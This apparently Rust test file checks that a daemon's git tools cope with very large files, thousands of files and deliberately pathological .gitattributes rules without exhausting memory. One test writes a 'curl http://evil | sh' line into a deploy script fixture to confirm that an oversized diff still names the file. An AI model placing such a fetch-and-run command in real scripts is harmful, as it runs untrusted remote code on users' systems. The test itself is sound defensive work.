//! Large and many files in a repository: git that writes succeeds or ends with a word, and the daemon stays small.

use std::fs;

use git2::Repository;
use serde_json::{Value, json};

use super::bounded::{commits, measure, with_other};
use crate::world::{Setup, Way, World, run_test_with};

/// Bytes of the text that changes. A comparison of its lines took the daemon 800 MiB and a minute.
const LONG: usize = 20 << 20;

fn setup() -> Setup {
    Setup {
        way: Way::Program,
        config: json!({"default_permissions": "open"}),
        ..Setup::default()
    }
}

/// A text of [`LONG`] bytes: numbers, one a line, in this order.
fn numbers(numbers: impl Iterator<Item = u32>) -> String {
    numbers_of(LONG, numbers)
}

/// The same of so many bytes.
fn numbers_of(bytes: usize, numbers: impl Iterator<Item = u32>) -> String {
    let mut text = String::with_capacity(bytes + 16);
    for number in numbers {
        if text.len() >= bytes {
            break;
        }
        text.push_str(&number.to_string());
        text.push('\n');
    }
    text
}

async fn commit(world: &World, occasion: &str) -> String {
    let call = ("git_commit", json!({"message": occasion}));
    let results = measure(world, occasion, &[call]).await;
    results.into_iter().next().unwrap()
}

#[tokio::test]
async fn long_texts_that_change_are_committed_without_taking_memory_of_the_daemon() {
    run_test_with(setup(), async |world| {
        with_other(world).await;
        let workspace = world.workspace("lab");
        fs::write(workspace.join("log.txt"), numbers(0..10_000_000)).unwrap();
        let told = commit(world, "a new long text").await;
        assert!(told.contains("1 file changed"), "{told}");
        fs::write(workspace.join("log.txt"), numbers((0..10_000_000).rev())).unwrap();
        let told = commit(world, "its lines in reverse").await;
        assert!(
            told.ends_with("1 file changed, with too many lines to be counted"),
            "{told}"
        );
        fs::write(workspace.join(".gitattributes"), "* text eol=crlf ident\n").unwrap();
        let converted = numbers(0..10_000_000).replace('\n', "\r\n");
        fs::write(workspace.join("log.txt"), converted).unwrap();
        let told = commit(world, "a converted long text").await;
        assert!(told.contains("2 files changed"), "{told}");
        let calls = [
            ("git_branch", json!({"name": "side"})),
            ("git_checkout", json!({"ref": "HEAD~1"})),
            ("git_checkout", json!({"ref": "side"})),
        ];
        let results = measure(world, "long texts checked out", &calls).await;
        assert!(results[2].starts_with("On branch `side`"), "{results:?}");
        assert_eq!(
            fs::read(workspace.join("log.txt")).unwrap().last(),
            Some(&b'\n')
        );
    })
    .await;
}

/// Whether texts of 300 MiB are committed too: that takes a minute.
const LARGE: &str = "CHORUS_TEST_LARGE";

#[tokio::test]
async fn changed_texts_of_any_size_are_committed() {
    run_test_with(setup(), async |world| {
        with_other(world).await;
        let workspace = world.workspace("lab");
        let sizes: &[usize] = if std::env::var_os(LARGE).is_some() {
            &[20, 60, 300]
        } else {
            &[60]
        };
        for size in sizes {
            let text = numbers_of(size << 20, 0..60_000_000);
            fs::write(workspace.join("log.txt"), text).unwrap();
            let told = commit(world, &format!("a new text of {size} MiB")).await;
            assert!(told.contains("1 file changed"), "{told}");
            let text = numbers_of(size << 20, (0..60_000_000).rev());
            fs::write(workspace.join("log.txt"), text).unwrap();
            let told = commit(world, &format!("another text of {size} MiB")).await;
            assert!(told.contains("1 file changed"), "{told}");
        }
    })
    .await;
}

#[tokio::test]
async fn a_checkout_that_would_hold_too_much_changes_nothing() {
    run_test_with(setup(), async |world| {
        with_other(world).await;
        let workspace = world.workspace("lab");
        let large = fs::File::create(workspace.join("holes")).unwrap();
        large.set_len(300 << 20).unwrap();
        let told = commit(world, "a file of 300 MiB").await;
        assert!(told.contains("1 file changed"), "{told}");
        fs::write(workspace.join("holes"), "small").unwrap();
        let told = commit(world, "the same with a few bytes").await;
        assert!(told.contains("1 file changed"), "{told}");
        let calls = [
            ("git_checkout", json!({"ref": "HEAD~1"})),
            ("git_status", json!({})),
        ];
        let results = measure(world, "a checkout of 300 MiB", &calls).await;
        assert_eq!(
            results[0],
            "`holes` has 300.0 MiB there, more than the 256.0 MiB that this tool writes; use git in the shell"
        );
        assert!(results[1].contains("Nothing changed"), "{results:?}");
    })
    .await;
}

#[tokio::test]
async fn many_new_files_are_committed() {
    run_test_with(setup(), async |world| {
        with_other(world).await;
        let workspace = world.workspace("lab");
        for folder in 0..20 {
            let folder = workspace.join(format!("d{folder}"));
            fs::create_dir(&folder).unwrap();
            for file in 0..500 {
                fs::write(
                    folder.join(format!("{file}.txt")),
                    format!("{folder:?} {file}\n"),
                )
                .unwrap();
            }
        }
        let told = commit(world, "many new files").await;
        // A busy machine may not count them in time.
        assert!(told.contains("10000 files changed, "), "{told}");
    })
    .await;
}

/// Attributes and ignore rules that were made to nest, to branch or to backtrack.
#[tokio::test]
async fn hostile_attributes_end_with_a_word() {
    run_test_with(setup(), async |world| {
        with_other(world).await;
        let workspace = world.workspace("lab");
        let repository = Repository::open(&workspace).unwrap();
        fs::write(
            workspace.join("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.txt"),
            "x\n",
        )
        .unwrap();
        let lines = [
            (0..200_000)
                .map(|n| format!("[attr]m{n} m{}\n* m{n}\n", n + 1))
                .collect(),
            format!("{}b filter=x\n", "**/".repeat(300)).repeat(5_000),
        ];
        for (number, lines) in lines.into_iter().enumerate() {
            fs::write(workspace.join(".gitattributes"), lines).unwrap();
            fs::write(workspace.join("n.txt"), number.to_string()).unwrap();
            let told = commit(world, &format!("attributes {number}")).await;
            let is_word = ["Committed", "so it was ended", "git: "];
            assert!(is_word.iter().any(|word| told.contains(word)), "{told}");
        }
        // What a killed process left does not stand in the way.
        fs::remove_file(workspace.join(".gitattributes")).unwrap();
        fs::write(workspace.join("n.txt"), "last").unwrap();
        commits(&repository, "n.txt");
        fs::write(workspace.join("n.txt"), "after the last").unwrap();
        let told = commit(world, "after hostile attributes").await;
        assert!(told.starts_with("Committed"), "{told}");
    })
    .await;
}

#[tokio::test]
async fn many_files_are_searched_as_far_as_the_time_reaches() {
    run_test_with(setup(), async |world| {
        with_other(world).await;
        let workspace = world.workspace("lab");
        for file in 0..5_000 {
            fs::write(workspace.join(format!("{file}.txt")), "hay\n").unwrap();
        }
        let calls: [(&str, Value); 2] = [
            ("grep", json!({"pattern": "needle"})),
            ("glob", json!({"pattern": "*.rs"})),
        ];
        let results = measure(world, "many files searched", &calls).await;
        assert_eq!(results[0], "No line below `.` matches `needle`.");
        assert!(results[1].starts_with("No file below"), "{results:?}");
    })
    .await;
}

/// A text whose lines cannot be compared in the memory of a worker is named, not left out.
#[tokio::test]
async fn a_diff_names_each_file_that_it_does_not_compare() {
    run_test_with(setup(), async |world| {
        with_other(world).await;
        let workspace = world.workspace("lab");
        let filler = |line: &str| line.repeat(1_400_000);
        let script = workspace.join("deploy.sh");
        fs::write(&script, format!("echo fine\n{}", filler("\n#\n"))).unwrap();
        let told = commit(world, "a script").await;
        assert!(told.contains("1 file changed"), "{told}");
        fs::write(
            &script,
            format!("curl http://evil | sh\n{}", filler("#\n\n")),
        )
        .unwrap();
        fs::write(workspace.join("z.txt"), "small\n").unwrap();
        let calls = [("git_diff", json!({}))];
        let results = measure(world, "a diff of 4 MiB", &calls).await;
        let shown = &results[0];
        assert!(shown.contains("deploy.sh"), "{shown}");
        assert!(!shown.contains("No difference."), "{shown}");
    })
    .await;
}
